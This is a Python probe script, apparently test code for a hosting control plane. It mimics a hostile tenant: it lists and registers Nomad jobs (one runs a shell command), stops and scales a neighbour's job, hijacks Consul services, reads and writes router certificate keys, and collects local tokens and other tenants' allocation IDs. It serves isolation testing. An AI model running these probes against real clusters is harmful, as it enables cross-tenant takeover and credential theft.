"""What a hostile tenant tries against the control plane from wherever its
code runs (gunicorn, a release command, a cron, `hostctl site run`): list
and register Nomad jobs, stop or scale its neighbour, read its neighbour's
Variables and files, register or remove Consul services, read or write the
router's certificates, reach the router's profiles and metrics. Each probe
reports the HTTP status it got. Used by integration/controlplane_test.go;
the test runs it once more as the operator, to show every probe can
succeed with a token. Never deploy it anywhere real.

Targets come from the environment: NOMAD, CONSUL, ROUTER_ADMIN (URLs),
NEIGHBOUR (a site name), MARKER (a path a registered job would create).
With --out NAME the results also go to $NOMAD_ALLOC_DIR/data/probes-NAME.json.
"""
import json
import os
import re
import sys
import urllib.error
import urllib.request

UUID = r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}"


def call(method, url, body=None, headers=None):
    data = None
    if body is not None:
        data = body if isinstance(body, bytes) else json.dumps(body).encode()
    req = urllib.request.Request(url, data=data, method=method)
    for k, v in (headers or {}).items():
        req.add_header(k, v)
    try:
        with urllib.request.urlopen(req, timeout=10) as r:
            return r.status
    except urllib.error.HTTPError as e:
        return e.code
    except OSError as e:
        return "error: %s" % e


def best(codes):
    """The most an attacker got from several tries: a success if any, else
    a refusal if any, else whatever came back (a 404 for a name that does
    not exist says nothing about permissions)."""
    codes = list(codes)
    for c in codes:
        if isinstance(c, int) and 200 <= c < 300:
            return c
    return 403 if 403 in codes else codes[0]


def foreign_allocs():
    """Allocation IDs of other tasks on this node, as any process can read
    them from other processes' command lines."""
    own = os.environ.get("NOMAD_ALLOC_ID", "")
    found = set()
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open("/proc/%s/cmdline" % pid, "rb") as f:
                cmd = f.read().decode(errors="replace")
        except OSError:
            continue
        for m in re.finditer(r"/alloc/(" + UUID + r")/", cmd):
            if m.group(1) != own:
                found.add(m.group(1))
    return sorted(found)


def tokens():
    """Every credential the site can find: its environment, its secrets."""
    found = {k: v for k, v in os.environ.items() if "TOKEN" in k.upper()}
    secrets = os.environ.get("NOMAD_SECRETS_DIR", "")
    for name in ("nomad_token", "consul_token"):
        try:
            with open(os.path.join(secrets, name)) as f:
                found[name] = f.read().strip()
        except OSError:
            pass
    return found


def probes(nomad_token="", consul_token="", admin_token=""):
    nomad, consul, admin = os.environ["NOMAD"], os.environ["CONSUL"], os.environ["ROUTER_ADMIN"]
    neighbour, marker = os.environ["NEIGHBOUR"], os.environ["MARKER"]
    nh = {"X-Nomad-Token": nomad_token} if nomad_token else {}
    ch = {"X-Consul-Token": consul_token} if consul_token else {}
    job = {"Job": {"ID": "pwned", "Name": "pwned", "Type": "batch", "Datacenters": ["*"],
                   "TaskGroups": [{"Name": "g", "Count": 1, "Tasks": [{
                       "Name": "t", "Driver": "raw_exec",
                       "Config": {"command": "/bin/sh", "args": ["-c", "id > " + marker]}}]}]}}
    allocs = foreign_allocs()
    # Which of them is the neighbour's is not written anywhere a site can
    # read, so every one is tried, as an attacker would.
    candidates = [os.environ["NEIGHBOUR_ALLOC"]] if os.environ.get("NEIGHBOUR_ALLOC") else allocs
    candidates = candidates or ["00000000-0000-0000-0000-000000000000"]
    service = {"ID": "squat", "Name": neighbour, "Port": 20999, "Tags": ["hostctl"],
               "Meta": {"hostctl_site": neighbour, "hostctl_domains": neighbour + ".localhost"}}
    ah = {"Authorization": "Bearer " + admin_token} if admin_token else {}
    # In this order: the operator's run (the control) reads the neighbour
    # before it stops it.
    r = {
        "nomad list jobs": call("GET", nomad + "/v1/jobs", headers=nh),
        "nomad read neighbour's variables": call("GET", nomad + "/v1/var/nomad/jobs/" + neighbour, headers=nh),
        "nomad read neighbour's files": best(call("GET", nomad + "/v1/client/fs/ls/%s?path=/alloc" % a, headers=nh)
                                             for a in candidates),
        "nomad register a job": call("POST", nomad + "/v1/jobs", job, nh),
        "nomad scale neighbour": call("POST", nomad + "/v1/job/%s/scale" % neighbour,
                                      {"Count": 2, "Target": {"Group": "web"}}, nh),
        "nomad stop neighbour": call("DELETE", nomad + "/v1/job/" + neighbour, headers=nh),
        "consul register neighbour's service": call("PUT", consul + "/v1/agent/service/register", service, ch),
        "consul deregister neighbour's service": best(
            call("PUT", consul + "/v1/agent/service/deregister/_nomad-task-%s-group-web-%s-http" % (a, neighbour), b"", ch)
            for a in candidates),
        "consul read certificates": call("GET", consul + "/v1/kv/hostctl/router/certs/acme_account+key", headers=ch),
        "consul write certificates": call("PUT", consul + "/v1/kv/hostctl/router/certs/planted", b"x", ch),
        "router metrics": call("GET", admin + "/metrics", headers=ah),
        "router pprof": call("GET", admin + "/debug/pprof/"),
    }
    return {"results": r, "foreign_allocs": allocs, "tokens": sorted(tokens())}


def main():
    out = None
    if len(sys.argv) == 3 and sys.argv[1] == "--out":
        out = sys.argv[2]
    result = probes(os.environ.get("PROBE_NOMAD_TOKEN", ""), os.environ.get("PROBE_CONSUL_TOKEN", ""),
                    os.environ.get("PROBE_ADMIN_TOKEN", ""))
    text = json.dumps(result, sort_keys=True)
    if out:
        with open(os.path.join(os.environ["NOMAD_ALLOC_DIR"], "data", "probes-%s.json" % out), "w") as f:
            f.write(text)
    print("PROBES " + text, flush=True)


if __name__ == "__main__":
    main()
